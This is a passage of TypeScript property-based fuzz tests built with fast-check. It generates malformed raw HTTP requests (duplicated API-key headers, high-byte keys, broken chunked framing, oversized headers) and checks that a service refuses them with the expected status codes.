      return assemble({ ...parts, requestLine: parts.requestLine.replace(/^\S+/, b.method) }, null)
    case 'version':
      return assemble({ ...parts, requestLine: parts.requestLine.replace(/HTTP\/1\.1$/, b.version) }, null)
    case 'no-host':
      return assemble({ ...parts, headers: parts.headers.filter(([n]) => n !== 'Host') }, null)
    case 'huge-header':
      return assemble({ ...parts, headers: [...parts.headers, ['X-Padding', 'a'.repeat(b.length)]] }, null)
  }
}

export function rawArbitraries(keys: Keys) {
  const arbs = fuzzArbitraries(keys)
  const small = (arb: fc.Arbitrary<FuzzRequest>) => arb.filter(fitsOneWrite)

  /** Malformed requests of every kind that fit a socket write, framed by length or in chunks. */
  const malformedOverSocket: fc.Arbitrary<RawCase> = fc
    .record({
      req: fc.oneof(
        small(arbs.fieldDefects),
        small(arbs.bodyDefects),
        small(arbs.queryDefects),
        small(arbs.credentialDefects),
        small(arbs.idempotencyDefects),
        small(arbs.methodDefects),
      ),
      how: rendering,
    })
    .map(({ req, how }) => ({
      kind: `${req.kind}${how.chunks === null ? '' : ', chunked'}`,
      bytes: renderRaw(req, how),
      expected: expectedAnswer(req),
      framing: false,
      request: req,
    }))

  /**
   * The key header twice. Node joins repeated X-API-Key values with ", ", which is no key, so every
   * mix is refused; a repeated Authorization is only sent with two bad values, because Node keeps
   * the first one, and that is not a choice this service made.
   */
  const duplicatedKeyHeaders: fc.Arbitrary<RawCase> = fc
    .record({
      req: small(
        fc.oneof(
          arbs.validRequest.map(({ req }) => req),
          arbs.fieldDefects,
          arbs.bodyDefects,
        ),
      ),
      pair: fc.oneof<Array<fc.Arbitrary<[string, string, string, string]>>>(
        fc.tuple(
          fc.constant('X-API-Key'),
          fc.constant(keys.live),
          fc.constant('x-api-key'),
          fc.constant(keys.live),
        ),
        fc.tuple(fc.constant('X-API-Key'), fc.constant(keys.live), fc.constant('X-Api-Key'), arbs.badKey),
        fc.tuple(fc.constant('x-api-key'), arbs.badKey, fc.constant('X-API-KEY'), fc.constant(keys.live)),
        fc.tuple(
          fc.constant('Authorization'),
          arbs.badKey.map((k) => `Bearer ${k}`),
          fc.constant('authorization'),
          arbs.badKey.map((k) => `Bearer ${k}`),
        ),
      ),
      how: rendering,
    })
    .map(({ req, pair: [n1, v1, n2, v2], how }) => {
      const bad = withCredential(req, {}, 'bad')
      const parts = rawParts(bad)
      const headers: Array<[string, string]> = [...parts.headers, [n1, v1], ...how.extra, [n2, v2]]
      // Node trims the values; a key that is blank both times is simply no key, which is also a 401.
      return {
        kind: `${n1} twice (${req.kind})`,
        bytes: assemble({ ...parts, headers }, how.chunks),
        expected: expectedAnswer(bad),
        framing: false,
        request: bad,
      }
    })

  /** A key header carrying bytes that are not UTF-8 (Node reads them as Latin-1). */
  const highByteKeys: fc.Arbitrary<RawCase> = fc
    .record({
      req: small(arbs.validRequest.map(({ req }) => req)),
      value: highBytes,
      bearer: fc.boolean(),
    })
    .map(({ req, value, bearer }) => {
      const bad = withCredential(
        req,
        bearer ? { Authorization: `Bearer ${value}` } : { 'X-API-Key': value },
        'bad',
      )
      return {
        kind: `key with bytes 0x80-0xFF in ${bearer ? 'Authorization' : 'X-API-Key'}`,
        bytes: assemble(rawParts(bad), null),
        expected: expectedAnswer(bad),
        framing: false,
        request: bad,
      }
    })

  /** A valid request whose HTTP framing is broken: it must be refused and nothing stored. */
  const brokenFraming: fc.Arbitrary<RawCase> = fc
    .record({ req: small(arbs.validRequest.map(({ req }) => req)), breaker })
    // A broken chunk in the body of a GET is a known gap (getWithBrokenBody below), not tested here.
    .filter(({ req, breaker: b }) => b.kind !== 'bad-chunk-size' || req.method === 'POST')
    .map(({ req, breaker: b }) => {
      const bytes = breakFraming(req, b)
      const status = b.kind === 'huge-header' ? 431 : 400
      return {
        kind: `framing: ${b.kind}`,
        bytes,
        expected: refused(status, `${b.kind}: not valid HTTP/1.1`),
        framing: true,
        request: null,
      }
    })

  /**
   * A valid GET /put that also sends a body in chunks, one of them broken. Node answers 400 once it
   * reaches the broken chunk, but the route does not read a GET body and may already have stored
   * the event from the query string by then.
   */
  const getWithBrokenBody: fc.Arbitrary<RawCase> = fc
    .record({
      req: small(arbs.validRequest.map(({ req }) => req)).filter((req) => req.method === 'GET'),
      size: fc.constantFrom('zz', '-1', 'ffffffffffffffffffff', '0x10'),
    })
    .map(({ req, size }) => ({
      kind: `GET /put with a broken chunk size "${size}" in its body`,
      bytes: breakFraming(req, { kind: 'bad-chunk-size', size }),
      expected: refused(400, 'a broken chunk: not valid HTTP/1.1'),
      framing: true,
      request: null,
    }))

  /** Valid requests for the socket, to be rendered (some in chunks) once their keys are unique. */
  const validOverSocket = fc.record({
    valid: arbs.validRequest.filter(({ req }) => fitsOneWrite(req)),
    how: rendering,
  })

  return {
    malformedOverSocket,
    duplicatedKeyHeaders,
    highByteKeys,
    brokenFraming,
    getWithBrokenBody,
    validOverSocket,
  }
}
